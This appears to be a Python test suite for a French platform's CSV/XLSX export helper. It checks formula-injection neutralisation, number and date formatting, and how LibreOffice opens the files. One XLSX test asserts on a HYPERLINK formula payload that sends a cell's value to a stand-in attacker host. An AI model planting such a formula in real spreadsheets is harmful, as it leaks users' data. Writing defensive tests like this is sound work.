"""The one writer of the platform's CSV and XLSX files: text never runs as a formula, numbers and dates
are numbers and dates, and the CSV opens in columns in a French spreadsheet."""

import datetime
import decimal
import io
import zipfile

import pytest
from django.http import StreamingHttpResponse
from openpyxl import load_workbook

from mentorat.core import spreadsheets
from mentorat.core.csv_utils import read_csv
from mentorat.core.spreadsheets import Month, Sheet, neutralise, unneutralise
from tests.spreadsheets import FORMULA, FORMULA_RESULT, open_in_libreoffice, rows

SEPT_15_AT_12_30_UTC = datetime.datetime(2026, 9, 15, 12, 30, tzinfo=datetime.UTC)
HEADER = ["intitule", "nombre", "negatif", "score", "montant", "jour", "moment", "mois", "note"]
ROW = [
    FORMULA,
    3,
    -3,
    0.6821,
    decimal.Decimal("-12.50"),
    datetime.date(2026, 9, 15),
    SEPT_15_AT_12_30_UTC,
    Month(2026, 9, 1),
    "- présentation",
]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_that_starts_like_a_formula_gets_a_quote_that_the_import_takes_off(start):
    text = f"{start}1+1 présentation"

    assert neutralise(text) == f"'{text}"
    assert unneutralise(neutralise(text)) == text


@pytest.mark.parametrize("text", ["Chargée de mission", "'=1+1", "''-x", "'", "l'adjointe", ""])
def test_other_texts_come_back_from_the_import_as_they_were_typed(text):
    assert unneutralise(neutralise(text)) == text
    assert spreadsheets.csv_value(text) == neutralise(text)


def test_real_numbers_are_written_as_numbers_with_a_decimal_comma_negative_ones_included():
    assert [spreadsheets.csv_value(value) for value in ROW[1:5]] == ["3", "-3", "0,6821", "-12,50"]
    assert spreadsheets.csv_value("-3") == "'-3"  # typed by someone: a text


def test_dates_are_iso_and_datetimes_in_paris_time():
    assert [spreadsheets.csv_value(value) for value in ROW[5:8]] == ["2026-09-15", "2026-09-15 14:30", "2026-09"]
    assert Month.of(datetime.datetime(2026, 9, 30, 22, 30, tzinfo=datetime.UTC)) == Month(2026, 10, 1)  # Paris


def test_every_csv_has_a_bom_semicolons_and_crlf_line_ends():
    content = spreadsheets.csv_bytes([HEADER, ROW])

    assert content.startswith("\ufeffintitule;nombre;".encode())
    assert content.count(b"\r\n") == 2
    assert b"\n" not in content.replace(b"\r\n", b"")


def test_a_csv_download_is_utf8_text_as_an_attachment_streamed_on_request():
    response = spreadsheets.csv_response("données.csv", [HEADER, ROW])
    streamed = spreadsheets.csv_response("export.csv", iter([HEADER, ROW]), streaming=True)

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == "attachment; filename*=utf-8''donn%C3%A9es.csv"
    assert isinstance(streamed, StreamingHttpResponse)
    assert streamed["Content-Disposition"] == 'attachment; filename="export.csv"'
    assert b"".join(streamed.streaming_content) == response.content


def test_a_text_cell_in_an_xlsx_is_a_string_never_a_formula_under_a_frozen_header():
    content = spreadsheets.xlsx_bytes([Sheet("Données", [HEADER, ROW])])

    xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    assert '<c r="A2" s="' in xml
    assert 't="inlineStr"><is><t>=HYPERLINK("https://evil.example/?d="&amp;A1,"Voir")</t>' in xml
    # Flagged as typed after a quote: editing the cell in Excel keeps it a text.
    sheet = load_workbook(io.BytesIO(content))["Données"]
    assert sheet["A2"].quotePrefix is True
    assert sheet["I2"].quotePrefix is True
    assert sheet["B2"].quotePrefix is False
    # LibreOffice keeps no view settings when it converts without a window: the frozen header row is
    # checked here, in the file as Excel receives it.
    assert sheet.freeze_panes == "A2"


@pytest.fixture(scope="module")
def opened(tmp_path_factory):
    """The helper's CSV and XLSX of the same rows, as LibreOffice opens them (one run)."""
    sheets = [Sheet("Lisez-moi", [["Une page de notes"]], table=False), Sheet("Données", [HEADER, ROW])]
    return open_in_libreoffice(
        tmp_path_factory.mktemp("spreadsheets"),
        {
            "helper-csv": ("csv", spreadsheets.csv_bytes([HEADER, ROW])),
            "helper-xlsx": ("xlsx", spreadsheets.xlsx_bytes(sheets)),
        },
    )


def test_libreoffice_reads_the_csv_in_columns_with_numbers_dates_and_the_formula_as_text(opened):
    header, row = rows(opened["helper-csv"])

    assert header == HEADER
    assert row[0] == "'" + FORMULA != FORMULA_RESULT
    assert row[1:5] == [3, -3, 0.6821, -12.5]
    assert row[5:7] == [datetime.datetime(2026, 9, 15), datetime.datetime(2026, 9, 15, 14, 30)]
    assert row[8] == "'- présentation"


def test_libreoffice_reads_the_xlsx_with_typed_cells_a_frozen_bold_header_and_a_filter(opened):
    workbook = opened["helper-xlsx"]
    header, row = rows(workbook, "Données")
    sheet = workbook["Données"]

    assert header == HEADER
    assert row == [
        FORMULA,
        3,
        -3,
        0.6821,
        -12.5,
        datetime.datetime(2026, 9, 15),
        datetime.datetime(2026, 9, 15, 14, 30),
        datetime.datetime(2026, 9, 1),
        "- présentation",
    ]
    formats = [sheet[f"{col}2"].number_format.lower().replace("\\", "") for col in "FGH"]
    assert formats == ["dd/mm/yyyy", "dd/mm/yyyy hh:mm", "mm/yyyy"]
    assert sheet.auto_filter.ref == "A1:I2"
    assert all(cell.font.b for cell in sheet[1])
    assert sheet.column_dimensions["A"].width > sheet.column_dimensions["B"].width
    notes = workbook["Lisez-moi"]
    assert (notes.auto_filter.ref, notes["A1"].font.b) == (None, False)


@pytest.mark.parametrize("delimiter", [",", ";"])
@pytest.mark.parametrize("bom", ["", "\ufeff"])
def test_the_import_reader_takes_the_quote_off_in_comma_and_semicolon_files_with_or_without_bom(delimiter, bom):
    quoted = neutralise(FORMULA).replace('"', '""')
    text = f'{bom}email{delimiter}job_title\r\na@caf.fr{delimiter}"{quoted}"\r\nb@caf.fr{delimiter}l\'adjointe\r\n'

    table = read_csv(text.encode())

    assert [row["job_title"] for row in table.rows] == [FORMULA, "l'adjointe"]
    assert table.delimiter == delimiter
